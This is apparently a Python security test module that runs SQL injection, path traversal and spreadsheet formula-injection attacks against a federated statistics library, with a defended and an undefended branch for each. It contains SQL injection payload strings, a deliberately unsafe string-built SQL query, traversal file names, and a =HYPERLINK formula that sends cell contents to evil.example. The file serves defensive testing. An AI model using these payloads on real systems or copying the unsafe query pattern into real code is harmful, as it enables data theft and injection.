"""Attacks by names and values that are made to be read as something else: as SQL, as a path, as a formula.

`test_injection.py` has the many forms, and markup; here is what they are after.
"""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

import duckdb
import pandas as pd

import civicgrid as cg
from attacks.attack import Attack
from attacks.trial import OPEN
from civicgrid.disclosure.codes import Code
from civicgrid.errors import CivicGridError
from civicgrid.query.types import Schema, category
from civicgrid.trust.envelope import Envelope
from civicgrid.wire import STUDY, Prepare, StudyRequest
from unit.node.sites import NETWORK, World, code, frame

PEOPLE = 60
EVIL = ("x' OR '1'='1", "x') OR ('1'='1", "x' OR 1=1 --", 'x" OR "1"="1', "x'' OR ''1''=''1", "\\' OR 1=1 --")


def _sql(defended: bool) -> int:
    """A level that would be true of everybody, from a codelist in the plan. Off: SQL put together as text."""
    held, most = frame(PEOPLE), 0
    at = World({"hull": held})
    for evil in EVIL:
        if not defended:
            connection = duckdb.connect()
            connection.register("records", held)
            try:
                found = connection.execute(f"select count(*) from records where sex = '{evil}'").fetchone()
            except duckdb.Error:
                continue
            most = max(most, int((found or (0,))[0]))
            continue
        trial = cg.dataset("trial", Schema.of({"sex": category("male", "female", evil)}))
        for condition in (trial["sex"] == evil, trial["sex"].is_in([evil]), ~trial["sex"].is_not_in([evil])):
            enrolled = at.enrol(at.request(at.plan(cg.Count(cg.cohort(condition)))), ["hull"])
            if code(enrolled.replies["hull"]) is None:
                most = PEOPLE
    return most


def _sql_in_data(defended: bool) -> int:
    """The same by way of the data: a level that some people have, whose count would be that of everybody."""
    most = 0
    for evil in EVIL:
        held = pd.DataFrame({"sex": [evil] * 20 + ["male"] * (PEOPLE - 20)})
        if not defended:
            connection = duckdb.connect()
            connection.register("records", held)
            for (level,) in connection.execute("select distinct sex from records").fetchall():
                try:
                    found = connection.execute(f"select count(*) from records where sex = '{level}'").fetchone()
                except duckdb.Error:
                    continue
                most = max(most, int((found or (0,))[0]) - (20 if level == evil else 40))
            continue
        grid = cg.simulate({"a": held}, policy=OPEN)
        sex = grid.dataset("data")["sex"]
        people = grid.run(cg.Count(cg.cohort(sex == evil))).to_pandas()["people"].item()
        most = max(most, int(people) - 20)
    return most


def _path(defended: bool) -> int:
    """A plan for a data set by the name of a file, under a permit that allows even that. Off: a node that opens files by
    the names of data sets.
    """
    with tempfile.TemporaryDirectory() as folder:
        secret = Path(folder) / "another.csv"
        frame(PEOPLE).to_csv(secret, index=False)
        names = (str(secret), f"../../..{secret}", str(secret.with_suffix("")), f"read_csv('{secret}')")
        if not defended:
            return max(len(pd.read_csv(name)) for name in names[:1])
        at = World({"hull": frame(40)})
        for name in names:
            at.trust["hull"].own_permits.append(at.permit("hull", datasets=(name,)))
            honest = at.request(at.plan(cg.Count(cg.dataset("trial"))))
            text = honest.canonical().decode().replace('"trial"', f'"{name}"')
            study = Envelope.sign(STUDY, text.encode(), at.person)
            try:
                request = StudyRequest.from_bytes(text)
            except CivicGridError:
                request = honest
            roster = at.roster(request, ["hull"])
            reply, _ = at.tell("hull", at.task(Prepare(network=NETWORK, run=request.digest(), study=study, roster=roster)))
            if code(reply) not in (Code.NO_DATA, Code.NOT_UNDERSTOOD):
                return PEOPLE
    return 0


ACTIVE = ("=", "+", "-", "@", "＝")
LEVELS = ('=HYPERLINK("http://evil.example/?"&B2,"more")', "+B2", "-B2", "@SUM(B2:B9)", " =B2", "=1+1", "＝B2")


def _formula(defended: bool) -> int:
    """A site calls a level by a formula that sends away the cells beside it, when a table is opened in a spreadsheet.

    Off: the table written to a file as it is.
    """
    held = pd.DataFrame({"group": [level for level in LEVELS for _ in range(20)]})
    grid = cg.simulate({"a": held, "b": held, "c": held}, policy=None)
    result = grid.run(cg.Describe(cg.dataset("data"), columns=["group"]))
    text = result.to_csv() if defended else result.to_pandas().to_csv(index=False)
    sent = 0
    for row in csv.DictReader(io.StringIO(text)):
        people = row.get("people") or "0"
        sent += int(float(people)) if str(row["group"]).lstrip(" ").startswith(ACTIVE) else 0
    return sent


ATTACKS = [
    Attack("SQL in a codelist", "researcher", "typed plans, quoted values", PEOPLE, _sql),
    Attack("SQL in data values", "node", "quoted values", PEOPLE - 20, _sql_in_data),
    Attack("a data set by the name of a file", "researcher", "data sets known by name", PEOPLE, _path),
    Attack("formulas in exports", "node", "export as text", 3 * 20 * len(LEVELS), _formula),
]
